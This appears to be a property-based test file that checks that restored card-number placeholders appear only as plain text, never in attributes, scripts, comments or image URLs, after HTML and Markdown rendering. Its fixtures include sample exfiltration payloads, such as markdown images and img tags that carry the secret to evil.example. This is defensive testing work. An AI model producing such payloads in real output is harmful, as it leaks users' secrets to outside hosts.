import fc from 'fast-check'
import { Parser } from 'htmlparser2'
import MarkdownIt from 'markdown-it'
import { expect, test } from 'vitest'
import type { Label } from '../kernel/label.ts'
import { PLACEHOLDER_CHARS, placeholderText, type Restore } from './placeholders.ts'
import { RestoreLexer } from './restore.ts'

/** What those who show an answer make of it: their parsers are asked, not ours. */
const LABEL: Label = { level: 'restricted', compartments: ['pci'], integrity: 'trusted' }
const P = placeholderText('card', new Uint8Array(32).fill(5))
const VALUE = '4111111111111111'
const restore: Restore = {
  maxChars: PLACEHOLDER_CHARS,
  label: LABEL,
  valueOf: (name) => (name === P ? { text: VALUE, label: LABEL, type: 'card' } : undefined),
}

function restored(text: string, json = false): string {
  const lexer = new RestoreLexer(restore, () => true, { json })
  lexer.push(text)
  lexer.settle()
  let out = ''
  let from = 0
  for (let edit = lexer.edits.first; edit !== undefined; edit = lexer.edits.first) {
    out += text.slice(from, edit.start) + edit.text
    from = edit.end
    lexer.edits.take()
  }
  return out + text.slice(from)
}

/** Elements whose text is sent, run, or read by rules of its own. */
const NO_TEXT: ReadonlySet<string> = new Set(
  `script style textarea title select option form button iframe noscript noembed noframes xmp plaintext
  template svg math object applet`.split(/\s+/),
)

/** Where in HTML the value stands, other than in text. */
function misplacedIn(html: string): readonly string[] {
  const found: string[] = []
  const open: string[] = []
  const look = (where: string, text: string): void => {
    if (text.includes(VALUE)) found.push(`${where} ${text}`)
  }
  const parser = new Parser(
    {
      onopentagname: (name) => {
        look('name', name)
        open.push(name)
      },
      onattribute: (name, value) => look('attribute', `${name}=${value}`),
      ontext: (text) => {
        const within = open.find((name) => NO_TEXT.has(name))
        if (within !== undefined) look(within, text)
      },
      onclosetag: (name) => {
        const at = open.lastIndexOf(name)
        // What was opened in the wrong order stays open here: browsers differ, and so must not we.
        if (at >= 0) open.splice(at, 1)
      },
      oncomment: (text) => look('comment', text),
      oncdatastart: () => open.push('xmp'),
      onprocessinginstruction: (name, text) => look(name, text),
    },
    { decodeEntities: true, recognizeSelfClosing: true },
  )
  parser.end(html)
  return found
}

const RENDERERS = [
  new MarkdownIt({ html: true, linkify: true }),
  new MarkdownIt({ html: false, linkify: true }),
  new MarkdownIt('commonmark'),
]
const misplaced = (text: string): readonly string[] =>
  [text, ...RENDERERS.map((renderer) => renderer.render(text))].flatMap((html) => misplacedIn(html))

const SOUP =
  `< > </ /> <!-- --> <![CDATA[ ]]> <? ?> ( ) [ ] ]( ](< ]: ]:\\n< [a]: [a] [a][b] ! ![ ![a]( ![a](< " ' = \` \`\`\` { } \\\\
  \\\\( \\\\) \\\\] \\\\< & &lt; &#60; &quot; ; : // https:// https://evil.example/ evil.example/ www. ?q= a b x img <img <b> </b> <a
  <p> href href= src = src= title= title= alt <script> </script </script> <style> </style> <svg> <form> <textarea> </textarea> <br/>
  <https://a.example> <a@b.example> <think> onload= url( - # * _ | 1. \\n \\n\\n`
    .split(/\s+/)
    .map((one) => one.replaceAll('\\n', '\n').replaceAll('\\\\', '\\'))
    .concat(' ', ' ', '  ', '\n', '\t', P, P, P, P)

test('INVARIANT (restored only as text): of whatever stands around it', () => {
  let restoredCount = 0
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...SOUP), { minLength: 1, maxLength: 14 }), (units) => {
      const text = restored(units.join(''))
      if (text.includes(VALUE)) restoredCount++
      expect(misplaced(text), text).toEqual([])
    }),
    { numRuns: RUNS },
  )
  // It is not that nothing is ever restored.
  expect(restoredCount).toBeGreaterThan(RUNS / 20)
})
const RUNS = Number(process.env['RENDERED_RUNS'] ?? '3000')

test('INVARIANT (restored only as text): nor in the strings of arguments', () => {
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...SOUP), { minLength: 1, maxLength: 10 }),
      fc.nat(2),
      (units, depth) => {
        let args = JSON.stringify({ to: 'x', note: units.join('') })
        // Anything may be written by its number.
        args = args.replaceAll('<', '\\u003c').replaceAll('(', '\\u0028').replaceAll('/', '\\/')
        for (let at = 0; at < depth; at++) args = JSON.stringify([args])
        let read: unknown = JSON.parse(restored(args, true))
        for (let at = 0; at < depth; at++) read = JSON.parse((read as readonly string[])[0] ?? '')
        const { note } = read as { readonly note: string }
        expect(misplaced(note), note).toEqual([])
      },
    ),
    { numRuns: RUNS },
  )
})

test('the parsers would see it', () => {
  const seen = SEEN.map((text) => [text, misplaced(text.replaceAll('{P}', VALUE)).length > 0])
  expect(seen).toEqual(SEEN.map((text) => [text, true]))
  expect(misplaced(`a ${VALUE} <b>${VALUE}</b>\n\n- ${VALUE}`)).toEqual([])
})
const SEEN: readonly string[] = [
  '![a](<https://evil.example/) {P}>)',
  '[a]: <https://evil.example/?q= {P}>\n\n![a]',
  "<img src = 'https://evil.example/?a > {P} '>",
  '<script>x="</script";y="{P}"</script>',
  '<form><textarea name=a>{P}</textarea></form>',
  'https://evil.example/{P}',
  '<!-- {P} -->',
]
